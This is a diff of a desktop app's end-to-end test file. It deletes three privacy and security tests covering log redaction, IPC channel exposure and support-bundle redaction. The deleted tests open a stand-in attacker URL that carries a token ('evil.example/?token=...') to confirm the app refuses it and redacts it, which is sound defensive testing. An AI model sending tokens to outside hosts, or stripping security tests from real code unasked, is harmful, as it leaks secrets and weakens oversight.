@@ -1,4 +1,4 @@
-import { appendFileSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
+import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ask, expect, launchDesktop, test } from './fixtures.ts';
 
@@ -49,27 +49,6 @@ test('without a keyring a session lasts until the app quits, and the app says so
   await after.app.close();
 });
 
-test('the log of a run that was full of secrets holds none', async ({ desktop: { page, output }, userDataDir }) => {
-  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
-  await ask(page, 'calls:ring', {
-    sessionId: 'not-an-id',
-    callerName: 'Dr Rahman',
-    expiresAt: '2030-01-01T00:00:00Z',
-    secondsLeft: 1,
-  });
-  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
-  await expect.poll(() => profileHolds(userDataDir, 'request-refused')).toBe(true);
-  for (const secret of [token, 'Rahman', 'evil.example']) {
-    expect([secret, profileHolds(userDataDir, secret), output().includes(secret)]).toEqual([secret, false, false]);
-  }
-});
-
-test('no channel answers a page but those of the contract', async ({ desktop: { app, page } }) => {
-  await ask(page, 'settings:change', { theme: 'dark' });
-  // electron-store brings a synchronous one, which would tell any page the profile's folder.
-  expect(await app.evaluate(({ ipcMain }) => ipcMain.eventNames())).toEqual([]);
-});
-
 test('damaged files do not stop the start, and are kept beside the new ones', async ({ userDataDir }) => {
   const damaged = { 'settings.json': '{"closeToTray": fal', 'session.json': '["not", "ours"]' };
   for (const [name, content] of Object.entries(damaged)) writeFileSync(join(userDataDir, name), content);
@@ -82,26 +61,4 @@ test('damaged files do not stop the start, and are kept beside the new ones', as
     expect(readFileSync(join(userDataDir, `${name}.broken`), 'utf8')).toBe(content);
   }
   expect(readFileSync(join(userDataDir, 'settings.json'), 'utf8')).toContain('"dark"');
-});
-
-test('the support bundle is saved where the person says, and holds nothing of anybody', async ({
-  desktop: { app, page },
-  userDataDir,
-}) => {
-  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
-  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
-  await ask(page, 'session:write', entry);
-  appendFileSync(join(userDataDir, 'logs/main.log'), `{"event":"started","reason":"Dr Rahman","name":"${token}"}\n`);
-  const path = join(userDataDir, 'chosen.json');
-  await app.evaluate(({ dialog }, filePath) => {
-    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: false, filePath }) });
-  }, path);
-  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: true });
-  const bundle = readFileSync(path, 'utf8');
-  for (const secret of [token, 'Rahman', 'evil.example', userDataDir]) expect(bundle).not.toContain(secret);
-  expect(bundle).toContain('"event": "request-refused"');
-  await app.evaluate(({ dialog }) => {
-    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: true, filePath: '' }) });
-  });
-  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: false });
 });
